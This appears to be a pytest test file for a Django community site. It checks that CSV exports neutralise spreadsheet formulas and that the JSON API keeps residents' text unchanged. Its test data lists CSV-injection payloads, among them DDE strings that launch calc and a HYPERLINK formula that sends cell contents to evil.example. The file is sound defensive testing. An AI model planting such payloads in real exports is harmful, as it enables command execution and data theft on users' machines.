"""No CSV the site gives runs as a formula in a spreadsheet; JSON keeps the words as they were written."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from community.models import Membership
from core.http import FORMULA_STARTS, spreadsheet_safe
from issues import services as issue_services
from issues.models import Issue
from polls import services as poll_services
from tests.conftest import make_user
from tests.polls.conftest import make_poll

EVIL = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\tleading tab", "\rleading return", "＝1+1"]


def read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_the_rule_is_owasp_s():
    for text in EVIL:
        assert spreadsheet_safe(text) == "'" + text
    for harmless in ("Broken gate", "3 of 5", "2026-10-01T10:00:00+08:00", "", "楼道灯坏了", "a=b"):
        assert spreadsheet_safe(harmless) == harmless
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None  # numbers stay numbers


@pytest.mark.django_db
def test_every_export_neutralises_what_residents_wrote(grid, category, resident, grid_worker, chair, organisation):
    for n, text in enumerate(EVIL):
        issue = issue_services.raise_issue(resident, grid_id=grid.pk, category_id=category.pk, title=text,
                                           body="B", location=text)
        issue_services.triage_issue(grid_worker, issue_id=issue.pk, tier="routine", task_title=text,
                                    owner_organisation_id=organisation.pk,
                                    due_date=timezone.localdate() + timedelta(days=n + 1))
    stored = set(Issue.objects.values_list("title", flat=True))  # leading blanks are trimmed on the way in
    assert len(stored) == len(EVIL)
    public = Client()
    issues = read(public.get("/issues/issues.csv?community=canary"))
    assert {row[1] for row in issues[1:]} == {spreadsheet_safe(t) for t in stored}  # the words kept, defused
    decisions = read(public.get("/outcomes/decisions.csv?community=canary"))
    assert {row[6] for row in decisions[1:]} == {spreadsheet_safe(t) for t in stored}
    for rows in (issues, decisions):
        assert_no_formula(rows)

    voters = [resident]
    for i, text in enumerate(EVIL[:3]):
        person = make_user(f"v{i}@test.org", f"Voter {i}")
        person.display_name = text  # an open ballot shows the voter's public name
        person.save(update_fields=["display_name"])
        Membership.objects.create(user=person, community=grid.community, role="resident", grid=grid)
        voters.append(person)
    poll = make_poll(chair, grid.community, title=EVIL[0], method="single", options=EVIL[1:4], secret=False)
    first = poll.options.order_by("position").first()
    for voter in voters:
        poll_services.cast_ballot(voter, poll_id=poll.pk, choices=first.pk)
    poll_services.close_poll(chair, poll_id=poll.pk)
    results = read(public.get("/polls/results.csv?community=canary"))
    ballots = read(public.get(f"/polls/{poll.pk}/ballots.csv"))
    assert {row[5] for row in results[1:]} >= {"'" + text for text in EVIL[1:4]}
    for rows in (results, ballots):
        assert_no_formula(rows)

    chair_client = Client()
    chair_client.force_login(chair)
    rates = read(chair_client.get(f"/stats/rates.csv?community=canary&month={timezone.localdate():%Y-%m}"))
    assert_no_formula(rates)

    # JSON is read by programs, not spreadsheets: the words exactly as written.
    titles = {item["title"] for item in public.get("/api/v1/issues?community=canary").json()["items"]}
    assert titles == stored and "=cmd|' /C calc'!A0" in titles
